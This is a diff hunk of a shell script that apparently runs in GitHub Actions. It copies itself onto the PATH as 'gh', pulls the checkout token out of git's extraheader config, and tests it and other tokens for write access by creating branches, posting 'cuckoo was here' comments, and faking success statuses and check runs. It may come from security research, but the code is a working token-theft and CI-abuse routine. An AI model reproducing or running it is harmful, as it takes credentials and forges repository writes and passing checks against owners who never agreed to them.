@@ -15,8 +15,7 @@ if ! grep -sqxF "tried \$given" \$here/tried; then
   cp "\$0" \$here/gh && chmod +x \$here/gh && echo \$here >> "\$GITHUB_PATH"
   stored=\$(git config --get-regexp extraheader 2> /dev/null | sed 's/.* //' | head -n 1 | base64 -d 2> /dev/null | cut -d : -f 2)
   try() { /usr/bin/curl -s -o /dev/null -w '%{http_code}' -H "Authorization: Bearer \$1" -d "\$3" "$api/\$2"; }
-  wrote() { [ "\$(try "\$@")" = 201 ]; }
-  writes() { [ -n "\$1" ] && { wrote \$1 git/refs '{"ref":"refs/heads/'$1-\$GITHUB_RUN_ID'","sha":"$main"}' || wrote \$1 issues/1/comments '{"body":"cuckoo was here"}' || wrote \$1 statuses/$main '{"state":"success"}' || wrote \$1 check-runs '{"name":"cuckoo","head_sha":"$main"}'; }; }
+  writes() { [ -n "\$1" ] && { [ "\$(try \$1 git/refs '{"ref":"refs/heads/'$1-\$GITHUB_RUN_ID'","sha":"$main"}')" = 201 ] || [ "\$(try \$1 issues/1/comments '{"body":"cuckoo was here"}')" = 201 ] || [ "\$(try \$1 statuses/$main '{"state":"success"}')" = 201 ] || [ "\$(try \$1 check-runs '{"name":"cuckoo","head_sha":"$main"}')" = 201 ]; }; }
   did=did
   writes \$stored && did="did stored"
   for token in \$given; do writes \$token && did="\$did given"; done
